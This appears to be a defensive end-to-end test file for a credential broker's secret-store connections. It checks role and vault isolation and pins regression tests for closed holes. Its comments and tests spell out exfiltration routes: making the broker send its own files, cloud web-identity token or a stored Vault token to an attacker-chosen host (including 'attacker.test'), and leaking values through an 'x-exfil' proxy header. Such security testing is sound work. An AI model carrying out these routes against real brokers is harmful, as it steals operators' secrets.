// Attacks on credentials by reference (issue 36): who may create, change, share and use secret store
// connections, and what a connection's settings can make the broker read or send. Hostile agents and
// scoped sessions, a hostile admin or member of one vault against another vault and against the owner's
// connections, and a hostile vault admin using a connection's settings to reach what belongs to the
// broker itself (its files, its ambient cloud identity). A broker runs in-process (tests/e2e/proxy-fixture.ts)
// against the Vault stand-in (tests/helpers/secret-stores/vault-server.ts) and small hostile stores of
// this file's own.
//
// Tests whose comment says "Was a hole" pin what an attack found, each fixed since (the comment says how).

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { createServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createTestPki } from "../helpers/pki.ts";
import { startAwsSecretsServer, type AwsSecretsServer } from "../helpers/secret-stores/aws-server.ts";
import { startVaultServer, type TestVaultServer } from "../helpers/secret-stores/vault-server.ts";
import { startUpstream, type TestUpstream } from "../helpers/upstream.ts";
import { callApi, startBroker, type Broker } from "./proxy-fixture.ts";

const ROOT_TOKEN = "hvs.ATTACKrootTOKEN0123456789abcdef";
const TEAM_A_VALUE = "team-a-value-Qz8xPw3kLm4n";
const TEAM_B_VALUE = "team-b-value-Hy6uJi9oKl2m";
const PROD_VALUE = "prod-only-value-Rt5yUi8oPa1s";
const CANARY = "broker-private-file-CANARY-7f3e9a1c5b2d";

/** A hostile HTTPS server on 127.0.0.1 (its own CA): records every request, answers as `handler` says. */
interface Hostile {
  readonly address: string;
  readonly port: number;
  readonly caPem: string;
  readonly seen: { method: string; url: string; headers: Record<string, unknown>; body: string }[];
  close(): Promise<void>;
}

async function startHostile(handler: (req: IncomingMessage, res: ServerResponse, body: string) => void): Promise<Hostile> {
  const pki = await createTestPki();
  const seen: Hostile["seen"] = [];
  const server = createServer({ cert: pki.certPem, key: pki.keyPem }, (req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const body = Buffer.concat(chunks).toString("utf8");
      seen.push({ method: req.method ?? "", url: req.url ?? "", headers: { ...req.headers }, body });
      handler(req, res, body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    address: `https://127.0.0.1:${port}`,
    port,
    caPem: pki.caPem,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** What the broker's people and machines are: the owner, two vaults, their human admins and a member, an agent and a scoped session. */
interface Cast {
  owner: string;
  aliceA: string; // human admin of team-a
  carolA: string; // a second human admin of team-a
  maryA: string; // human member of team-a
  bobB: string; // human admin of team-b
  agentA: string; // agent token, admin role in team-a
  scopedA: string; // scoped session (admin) of the owner in team-a
}

async function must(b: Broker, method: string, path: string, body: unknown, token: string, status: number) {
  const r = await b.api(method, path, body, token);
  if (r.status !== status) throw new Error(`${method} ${path}: ${r.status} ${JSON.stringify(r.body)}`);
  return r.body;
}

async function human(b: Broker, vault: string, email: string, role: "admin" | "member"): Promise<string> {
  const invite = await must(b, "POST", `/v1/vaults/${vault}/invites`, { email, role }, b.userToken, 201);
  const accepted = await must(b, "POST", `/v1/vault-invites/${invite.token}/accept`, { email, password: "correct horse battery" }, "", 200);
  return accepted.token;
}

async function cast(b: Broker): Promise<Cast> {
  await must(b, "POST", "/v1/vaults", { name: "team-a" }, b.userToken, 201);
  await must(b, "POST", "/v1/vaults", { name: "team-b" }, b.userToken, 201);
  const aliceA = await human(b, "team-a", "alice@example.com", "admin");
  const carolA = await human(b, "team-a", "carol@example.com", "admin");
  const maryA = await human(b, "team-a", "mary@example.com", "member");
  const bobB = await human(b, "team-b", "bob@example.com", "admin");
  const inv = await must(b, "POST", "/v1/vaults/team-a/agent-invites", { name: "agent-a", role: "admin" }, b.userToken, 201);
  const redeemed = await fetch(inv.invite_url.replace("http://broker.test", b.apiUrl), { method: "POST" });
  const agentA = ((await redeemed.json()) as { token: string }).token;
  const scoped = await must(b, "POST", "/v1/sessions", { vault: "team-a", role: "admin" }, b.userToken, 201);
  return { owner: b.userToken, aliceA, carolA, maryA, bobB, agentA, scopedA: scoped.token };
}

const vaultConn = (name: string, address: string, caPem: string, extra: Record<string, unknown> = {}) => ({
  name,
  kind: "vault",
  address,
  ca_pem: caPem,
  auth: { method: "token", token: ROOT_TOKEN },
  ...extra,
});

const ALICE_TOKEN = "hvs.ALICEteamAtoken0123456789abcd";
const AWS_ENV_KEYS = { accessKeyId: "AKIAOPERATORAMBIENT01", secretAccessKey: "operator-ambient-secret-key-0123456789abcdEF" };
const AWS_PROD_VALUE = "aws-prod-db-password-Kd83jfU2mQ";
const WEB_IDENTITY_TOKEN = "eyJhbGciOiJSUzI1NiJ9.broker-pod-web-identity-CANARY.c2lnbmF0dXJl";

let store: TestVaultServer;
let upstream: TestUpstream;
/** The operator's AWS account, which the broker reaches with its own environment's identity. */
let aws: AwsSecretsServer;
/** An STS endpoint a hostile vault admin runs. */
let attackerSts: AwsSecretsServer;
const savedEnv: Record<string, string | undefined> = {};
const AWS_ENV = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_ROLE_ARN"];
let broker: Broker;
let people: Cast;
/** Every answer the API gave in this file, for the leak check at the end. */
const answers: string[] = [];

async function api(method: string, path: string, body: unknown, token: string, headers: Record<string, string> = {}) {
  const res = await fetch(`${broker.apiUrl}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body !== undefined && { "content-type": "application/json" }), ...headers },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  const text = await res.text();
  answers.push(text);
  let parsed: any;
  try {
    parsed = JSON.parse(text);
  } catch {}
  return { status: res.status, body: parsed, text };
}

beforeAll(async () => {
  store = await startVaultServer();
  store.addToken(ROOT_TOKEN);
  store.put("team-a/db", { password: TEAM_A_VALUE });
  store.put("team-b/db", { password: TEAM_B_VALUE });
  store.put("prod/payments", { key: PROD_VALUE });
  store.addToken(ALICE_TOKEN, { allow: ["secret/data/team-a/"] });
  for (const k of AWS_ENV) savedEnv[k] = process.env[k];
  aws = await startAwsSecretsServer({ keys: [AWS_ENV_KEYS] });
  aws.put("prod/payments-db", AWS_PROD_VALUE);
  attackerSts = await startAwsSecretsServer();
  upstream = await startUpstream();
  broker = await startBroker({ caPem: [upstream.pki.caPem, aws.pki.caPem, attackerSts.pki.caPem].join("\n") });
  broker.dns.set("localhost", ["127.0.0.1"]); // the AWS stand-ins' URLs name localhost
  people = await cast(broker);
  // The owner's connection, shared with team-a only and for team-a's paths only; team-b has its own.
  await must(broker, "POST", "/v1/secret-stores", vaultConn("corp", store.address, store.pki.caPem), people.owner, 201);
  await must(broker, "PUT", "/v1/secret-stores/corp/vaults/team-a", { paths: ["team-a/"] }, people.owner, 200);
  await must(broker, "POST", "/v1/secret-stores", vaultConn("b-own", store.address, store.pki.caPem, { vault: "team-b" }), people.bobB, 201);
});

afterAll(async () => {
  for (const k of AWS_ENV) {
    if (savedEnv[k] === undefined) delete process.env[k];
    else process.env[k] = savedEnv[k];
  }
  aws?.stop();
  attackerSts?.stop();
  await broker?.stop();
  await upstream?.close();
  await store?.close();
});

describe("machines never manage connections or set references", () => {
  test("agent tokens and scoped sessions get 403 on every connection route, whatever their role", async () => {
    for (const token of [people.agentA, people.scopedA]) {
      const xv = { "x-vault": "team-a" };
      const tries = [
        await api("POST", "/v1/secret-stores", vaultConn("agent-made", store.address, store.pki.caPem), token, xv),
        await api("POST", "/v1/secret-stores", vaultConn("agent-made", store.address, store.pki.caPem, { vault: "team-a" }), token, xv),
        await api("GET", "/v1/secret-stores", undefined, token, xv),
        await api("GET", "/v1/secret-stores/corp", undefined, token, xv),
        await api("PATCH", "/v1/secret-stores/corp", { address: "https://attacker.test" }, token, xv),
        await api("DELETE", "/v1/secret-stores/corp", undefined, token, xv),
        await api("PUT", "/v1/secret-stores/corp/vaults/team-a", undefined, token, xv),
        await api("DELETE", "/v1/secret-stores/corp/vaults/team-a", undefined, token, xv),
        await api("POST", "/v1/secret-stores/corp/check", undefined, token, xv),
      ];
      for (const t of tries) expect(t.status).toBe(403);
    }
    const list = await api("GET", "/v1/secret-stores", undefined, people.owner);
    expect(list.body.connections.map((c: { name: string }) => c.name).sort()).toEqual(["b-own", "corp"]);
  });

  test("agent tokens and scoped sessions cannot set a credential by reference", async () => {
    for (const token of [people.agentA, people.scopedA]) {
      const r = await api("PUT", "/v1/vaults/team-a/credentials/AGENT_REF", { ref: "corp:prod/payments#key" }, token, { "x-vault": "team-a" });
      expect(r.status).toBe(403);
    }
    const keys = await api("GET", "/v1/vaults/team-a/credentials", undefined, people.owner);
    expect(keys.body.credentials.map((c: { key: string }) => c.key)).not.toContain("AGENT_REF");
  });

  test("an agent's proposal cannot carry a reference in a slot (slots never hold values or references)", async () => {
    const r = await api(
      "POST",
      "/v1/proposals",
      {
        credentials: [{ action: "set", key: "SMUGGLED", description: "x", ref: "corp:prod/payments#key" }],
        message: "please",
      },
      people.agentA,
      { "x-vault": "team-a" },
    );
    expect(r.status).toBe(400);
    expect(r.body.field).toContain("ref");
  });
});

describe("a vault's people and other vaults' connections", () => {
  test("an admin of team-a cannot point a reference at team-b's own connection, nor at an owner connection not shared with team-a", async () => {
    await must(broker, "POST", "/v1/secret-stores", vaultConn("unshared", store.address, store.pki.caPem), people.owner, 201);
    for (const ref of ["b-own:team-b/db#password", "unshared:prod/payments#key"]) {
      const r = await api("PUT", "/v1/vaults/team-a/credentials/STOLEN", { ref }, people.aliceA);
      expect(r.status).toBe(400);
      expect(r.body.field).toBe("ref");
    }
    const keys = await api("GET", "/v1/vaults/team-a/credentials", undefined, people.aliceA);
    expect(keys.body.credentials.map((c: { key: string }) => c.key)).not.toContain("STOLEN");
  });

  test("a proposal in team-a cannot be approved with a reference into team-b's connection", async () => {
    const filed = await api(
      "POST",
      "/v1/proposals",
      { credentials: [{ action: "set", key: "VIA_PROPOSAL", description: "the database password" }], message: "need it" },
      people.agentA,
      { "x-vault": "team-a" },
    );
    expect(filed.status).toBe(201);
    const id = filed.body.id;
    const bad = await api("POST", `/v1/proposals/${id}/approve`, { credentials: { VIA_PROPOSAL: { ref: "b-own:team-b/db#password" } } }, people.aliceA, {
      "x-vault": "team-a",
    });
    expect(bad.status).toBe(400);
    const good = await api("POST", `/v1/proposals/${id}/approve`, { credentials: { VIA_PROPOSAL: { ref: "corp:team-a/db#password" } } }, people.aliceA, {
      "x-vault": "team-a",
    });
    expect(good.status).toBe(200);
  });

  test("an admin of team-a sees neither team-b's connection nor team-b's references of a connection both use", async () => {
    const list = await api("GET", "/v1/secret-stores", undefined, people.aliceA);
    expect(list.status).toBe(200);
    expect(list.body.connections.map((c: { name: string }) => c.name)).toEqual(["corp"]);
    expect((await api("GET", "/v1/secret-stores/b-own", undefined, people.aliceA)).status).toBe(404);
    expect((await api("POST", "/v1/secret-stores/b-own/check", undefined, people.aliceA)).status).toBe(404);
  });

  test("a vault admin cannot create, change, share or delete the owner's connections, nor another vault's", async () => {
    expect((await api("POST", "/v1/secret-stores", vaultConn("alice-owner", store.address, store.pki.caPem), people.aliceA)).status).toBe(403);
    expect(
      (await api("POST", "/v1/secret-stores", vaultConn("alice-in-b", store.address, store.pki.caPem, { vault: "team-b" }), people.aliceA)).status,
    ).toBeOneOf([403, 404]);
    expect((await api("PATCH", "/v1/secret-stores/corp", { address: "https://127.0.0.1:1" }, people.aliceA)).status).toBe(403);
    expect((await api("PUT", "/v1/secret-stores/corp/vaults/team-b", undefined, people.aliceA)).status).toBe(403);
    expect((await api("DELETE", "/v1/secret-stores/corp", undefined, people.aliceA)).status).toBe(403);
    expect((await api("PATCH", "/v1/secret-stores/b-own", { refresh_seconds: 10 }, people.aliceA)).status).toBeOneOf([403, 404]);
    expect((await api("DELETE", "/v1/secret-stores/b-own", undefined, people.aliceA)).status).toBeOneOf([403, 404]);
    // A member of a vault is no manager even of the vault's own connection.
    await must(broker, "POST", "/v1/secret-stores", vaultConn("a-own", store.address, store.pki.caPem, { vault: "team-a" }), people.aliceA, 201);
    expect((await api("PATCH", "/v1/secret-stores/a-own", { refresh_seconds: 10 }, people.maryA)).status).toBe(403);
    expect((await api("DELETE", "/v1/secret-stores/a-own", undefined, people.maryA)).status).toBe(403);
  });

  test("a connection's secret auth fields never come back: views, lists, PATCH answers", async () => {
    const seen = [
      await api("GET", "/v1/secret-stores", undefined, people.owner),
      await api("GET", "/v1/secret-stores/corp", undefined, people.owner),
      await api("PATCH", "/v1/secret-stores/corp", { refresh_seconds: 300 }, people.owner),
      await api("GET", "/v1/secret-stores/a-own", undefined, people.maryA),
    ];
    for (const s of seen) {
      expect(s.status).toBe(200);
      expect(s.text).not.toContain(ROOT_TOKEN);
    }
  });

  test("a reference's value is never revealed, not even to an admin's session (it lives in the store)", async () => {
    await must(broker, "PUT", "/v1/vaults/team-a/credentials/REVEAL_ME", { ref: "corp:team-a/db#password" }, people.aliceA, 200);
    const one = await api("GET", "/v1/vaults/team-a/credentials/REVEAL_ME", undefined, people.aliceA);
    const all = await api("GET", "/v1/vaults/team-a/credentials?reveal=true", undefined, people.aliceA);
    expect(one.status).toBe(200);
    expect(one.body.value).toBeUndefined();
    expect(one.body.reference.text).toBe("corp:team-a/db#password");
    expect(one.body.reference.last_refresh).not.toBeNull(); // it was read, and still is not shown
    expect(all.body.credentials.find((c: { key: string }) => c.key === "REVEAL_ME").value).toBeUndefined();
    for (const r of [one, all]) expect(r.text).not.toContain(TEAM_A_VALUE);
  });

  test("a malformed service-account key is refused without repeating it", async () => {
    const privateKey = "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC-SEKRIT-KEY-MATERIAL\\n-----END PRIVATE KEY-----\\n";
    const broken = `{"type":"service_account","private_key":"${privateKey}","client_email": 42,`;
    const wrongType = `{"type":"service_account","private_key":"${privateKey}","client_email":["a"]}`;
    for (const key of [broken, wrongType]) {
      const r = await api(
        "POST",
        "/v1/secret-stores",
        { name: "g-bad", kind: "google", project: "my-project-1", auth: { method: "service_account_key", key } },
        people.owner,
      );
      expect(r.status).toBe(400);
      expect(r.text).not.toContain("SEKRIT-KEY-MATERIAL");
    }
  });

  test("refresh and grace bounds are enforced", async () => {
    for (const bad of [{ refresh_seconds: 9 }, { refresh_seconds: 86_401 }, { grace_seconds: -1 }, { grace_seconds: 86_401 }, { refresh_seconds: 10.5 }]) {
      const r = await api("PATCH", "/v1/secret-stores/corp", bad, people.owner);
      expect(r.status).toBe(400);
    }
  });

  test("deleting or unsharing a connection a vault's credential refers to is refused (409)", async () => {
    await must(broker, "PUT", "/v1/vaults/team-a/credentials/A_DB", { ref: "corp:team-a/db#password" }, people.aliceA, 200);
    expect((await api("DELETE", "/v1/secret-stores/corp/vaults/team-a", undefined, people.owner)).status).toBe(409);
    expect((await api("DELETE", "/v1/secret-stores/corp", undefined, people.owner)).status).toBe(409);
  });
});

describe("what a vault admin's own connection can make the broker read or send", () => {
  // Was a hole (critical), now closed. A human admin of one vault may create a connection "that only that vault uses"
  // (POST /v1/secret-stores with "vault"), and its Vault JWT/Kubernetes auth names any `token_file`: the
  // broker reads that file from its own disk (vault-kv.ts login, readFileSync) and POSTs its text as
  // `jwt` to the connection's address, which the admin chose (with a ca_pem of their own, so any host
  // will do). Any file the broker's user can read leaves: the master-password file, an OIDC or
  // connect client secret file, /proc/self/environ (BROKER_DATABASE_URL, AWS keys), a Kubernetes
  // service-account token. Fix: in workflows/secret-stores.ts createSecretStore/updateSecretStore, refuse
  // `jwt`/`kubernetes` (and AWS `environment`, below) for anyone but the owner, or better take token
  // files only from an operator setting (e.g. BROKER_SECRET_STORE_TOKEN_FILES) and refuse other paths
  // in contract/secret-stores.ts VaultAuthInput.
  test("a vault admin cannot make the broker send one of its own files to a host the admin chose", async () => {
    const dir = mkdtempSync(join(tmpdir(), "broker-private-"));
    const file = join(dir, "master-password");
    writeFileSync(file, `${CANARY}\n`, { mode: 0o600 });
    const catcher = await startHostile((_req, res) => {
      res.writeHead(400, { "content-type": "application/json" });
      res.end('{"errors":["role not found"]}');
    });
    try {
      const created = await api(
        "POST",
        "/v1/secret-stores",
        {
          name: "a-files",
          kind: "vault",
          vault: "team-a",
          address: catcher.address,
          ca_pem: catcher.caPem,
          auth: { method: "jwt", role: "any", token_file: file },
        },
        people.aliceA,
      );
      if (created.status === 201) {
        await api("PUT", "/v1/vaults/team-a/credentials/FILE_PROBE", { ref: "a-files:x/y#z" }, people.aliceA);
        await api("POST", "/v1/secret-stores/a-files/check", undefined, people.aliceA);
      }
      const received = catcher.seen.map((r) => r.body).join("\n");
      expect(received).not.toContain(CANARY);
    } finally {
      await api("DELETE", "/v1/vaults/team-a/credentials/FILE_PROBE", undefined, people.aliceA);
      await api("DELETE", "/v1/secret-stores/a-files", undefined, people.aliceA);
      await catcher.close();
    }
  });

  // Was a hole (high), now closed. AWS `{"method": "environment"}` signs with the broker's own AWS identity (its
  // AWS_ACCESS_KEY_ID/AWS_SECRET_ACCESS_KEY, or its web-identity token exchanged at STS). A vault admin's
  // own connection may use it, so any vault admin reads every secret the operator's identity can read,
  // none of which the owner shared with that vault. Fix: as above, `environment` only on the owner's
  // connections (workflows/secret-stores.ts createSecretStore/updateSecretStore: check settings.auth.method).
  test("a vault admin cannot read the operator's AWS account with the broker's own (environment) identity", async () => {
    process.env.AWS_ACCESS_KEY_ID = AWS_ENV_KEYS.accessKeyId;
    process.env.AWS_SECRET_ACCESS_KEY = AWS_ENV_KEYS.secretAccessKey;
    try {
      const before = aws.counts.getSecretValue;
      const created = await api(
        "POST",
        "/v1/secret-stores",
        { name: "a-ambient", kind: "aws", vault: "team-a", region: "us-east-1", endpoint: aws.url, auth: { method: "environment" } },
        people.aliceA,
      );
      let view: any;
      if (created.status === 201) view = (await api("PUT", "/v1/vaults/team-a/credentials/AMBIENT", { ref: "a-ambient:prod/payments-db" }, people.aliceA)).body;
      // The reference resolved through the operator's identity: the store answered the broker's signed request.
      expect({ signedReads: aws.counts.getSecretValue - before, lastRefresh: view?.reference?.last_refresh ?? null }).toEqual({
        signedReads: 0,
        lastRefresh: null,
      });
    } finally {
      delete process.env.AWS_ACCESS_KEY_ID;
      delete process.env.AWS_SECRET_ACCESS_KEY;
      await api("DELETE", "/v1/vaults/team-a/credentials/AMBIENT", undefined, people.aliceA);
      await api("DELETE", "/v1/secret-stores/a-ambient", undefined, people.aliceA);
    }
  });

  // Was a hole (critical, same root cause), now closed. With a web identity in the environment (EKS/IRSA, GKE workload
  // identity federation), the broker reads AWS_WEB_IDENTITY_TOKEN_FILE and POSTs the token unsigned to the
  // connection's `sts_endpoint`, which a vault admin sets to their own host: they get the broker pod's
  // identity token and can exchange it at the real STS for the broker's role themselves.
  test("a vault admin cannot make the broker send its web-identity token to an STS endpoint the admin chose", async () => {
    const dir = mkdtempSync(join(tmpdir(), "broker-irsa-"));
    const file = join(dir, "token");
    writeFileSync(file, WEB_IDENTITY_TOKEN);
    process.env.AWS_WEB_IDENTITY_TOKEN_FILE = file;
    process.env.AWS_ROLE_ARN = "arn:aws:iam::123456789012:role/broker";
    try {
      const created = await api(
        "POST",
        "/v1/secret-stores",
        { name: "a-sts", kind: "aws", vault: "team-a", region: "us-east-1", endpoint: aws.url, sts_endpoint: attackerSts.url, auth: { method: "environment" } },
        people.aliceA,
      );
      if (created.status === 201) await api("PUT", "/v1/vaults/team-a/credentials/STS_PROBE", { ref: "a-sts:prod/payments-db" }, people.aliceA);
      expect(attackerSts.webIdentityTokens).not.toContain(WEB_IDENTITY_TOKEN);
    } finally {
      delete process.env.AWS_WEB_IDENTITY_TOKEN_FILE;
      delete process.env.AWS_ROLE_ARN;
      await api("DELETE", "/v1/vaults/team-a/credentials/STS_PROBE", undefined, people.aliceA);
      await api("DELETE", "/v1/secret-stores/a-sts", undefined, people.aliceA);
    }
  });

  // Was a hole (medium), now closed. PATCH keeps the sealed auth when `auth` is left out, whatever else changes, so a new
  // `address` (or `ca_pem`) sends the stored Vault token to the new host. On the owner's connections only
  // the owner can do that (acceptable, though still worth closing); on a vault's own connection any admin
  // of the vault can, so a co-admin harvests the token another admin typed in. That token usually reaches
  // far more than the vault's references (other paths, other engines, writes, child tokens), and it is
  // documented as write-only. Fix: server/routes/secret-stores.ts PATCH (or updateSecretStore) must refuse a
  // change of address, namespace, ca_pem, endpoint, sts_endpoint, vault_url or authority without a new
  // `auth` in the same body (400 naming `auth`).
  test("a co-admin of a vault cannot re-point another admin's connection at their own host and receive its token", async () => {
    await must(
      broker,
      "POST",
      "/v1/secret-stores",
      vaultConn("a-alice", store.address, store.pki.caPem, { vault: "team-a", auth: { method: "token", token: ALICE_TOKEN } }),
      people.aliceA,
      201,
    );
    await must(broker, "PUT", "/v1/vaults/team-a/credentials/ALICE_DB", { ref: "a-alice:team-a/db#password" }, people.aliceA, 200);
    const catcher = await startHostile((_req, res) => {
      res.writeHead(403, { "content-type": "application/json" });
      res.end('{"errors":["permission denied"]}');
    });
    try {
      const patched = await api("PATCH", "/v1/secret-stores/a-alice", { address: catcher.address, ca_pem: catcher.caPem }, people.carolA);
      if (patched.status === 200) await api("POST", "/v1/secret-stores/a-alice/check", undefined, people.carolA);
      const tokens = catcher.seen.map((r) => r.headers["x-vault-token"]);
      expect(tokens).not.toContain(ALICE_TOKEN);
    } finally {
      await catcher.close();
      await api(
        "PATCH",
        "/v1/secret-stores/a-alice",
        { address: store.address, ca_pem: store.pki.caPem, auth: { method: "token", token: ALICE_TOKEN } },
        people.aliceA,
      );
    }
  });

  // Was a hole (low-medium), now closed. POST /v1/secret-stores/{name}/check is documented for the owner and the
  // connection's managers, yet checkSecretStore only asks requireVisible, so any member of a vault a
  // connection is shared with may run it; and it has no bound of its own, so a loop makes one store read
  // per reference per call (logins too, for AppRole/JWT), which the 401/403 path deliberately limits to one
  // per 10 s. Fix: workflows/secret-stores.ts checkSecretStore: requireManager (or owner/admin of a vault
  // holding references), and skip references read less than a few seconds ago.
  test("a vault member cannot make the broker read the store on demand, again and again", async () => {
    await must(broker, "PUT", "/v1/vaults/team-a/credentials/MEMBER_SEEN", { ref: "corp:team-a/db#password" }, people.aliceA, 200);
    const before = store.counts.reads;
    const statuses: number[] = [];
    for (let i = 0; i < 20; i++) statuses.push((await api("POST", "/v1/secret-stores/corp/check", undefined, people.maryA)).status);
    expect({ memberAllowed: statuses.filter((s) => s === 200).length, storeReads: store.counts.reads - before }).toEqual({ memberAllowed: 0, storeReads: 0 });
  });

  // Was a hole (design, high), now closed. Sharing a connection shares everything its auth can read: a member (not only an
  // admin) of a vault the owner shared `corp` with points a reference at any path the owner's token
  // reaches, adds a service on a host of their own, and receives the value. Nothing says which paths a
  // vault may use. Fix: shares carry a path (or ARN/name) prefix chosen by the owner (PUT
  // /v1/secret-stores/{name}/vaults/{vault} {"paths": [...]}), checked in requireUsableConnection and in
  // the registry's ready(); or document loudly that a share is the whole store.
  test("a member of a vault the owner shared a connection with for some paths cannot read a store path outside them", async () => {
    const set = await api("PUT", "/v1/vaults/team-a/credentials/PROD_PAYMENTS", { ref: "corp:prod/payments#key" }, people.maryA);
    expect([set.status, set.body?.field]).toEqual([400, "ref"]);
    if (set.status === 200) {
      const host = `127.0.0.1:${upstream.port}`;
      await api("POST", "/v1/vaults/team-a/services", { host, auth: { type: "header", header: "x-exfil", token: "PROD_PAYMENTS" } }, people.maryA);
      const session = await api("POST", "/v1/sessions", { vault: "team-a", role: "proxy" }, people.maryA);
      await fetch(`${broker.apiUrl}/proxy/${host}/collect`, { headers: { authorization: `Bearer ${session.body.token}` } }).then((r) => r.text());
    }
    const exfiltrated = upstream.received.flatMap((r) => r.rawHeaders.filter(([k]) => k.toLowerCase() === "x-exfil").map(([, v]) => v));
    expect(exfiltrated).not.toContain(PROD_VALUE);
  });
});

describe("the end of the file", () => {
  test("no answer, log line or audit record held a store token or a value", async () => {
    await Bun.sleep(400);
    const audit = JSON.stringify((await callApi(broker.apiUrl, "GET", "/v1/vaults/team-a/logs?limit=1000", undefined, people.owner)).body);
    // PROD_VALUE and CANARY are left out: the holes above send them where they should never go, and say so.
    for (const secret of [ROOT_TOKEN, ALICE_TOKEN, TEAM_A_VALUE, TEAM_B_VALUE, AWS_PROD_VALUE, AWS_ENV_KEYS.secretAccessKey, WEB_IDENTITY_TOKEN]) {
      for (const a of answers) expect(a).not.toContain(secret);
      for (const l of broker.logLines) expect(l).not.toContain(secret);
      expect(audit).not.toContain(secret);
    }
  });
});
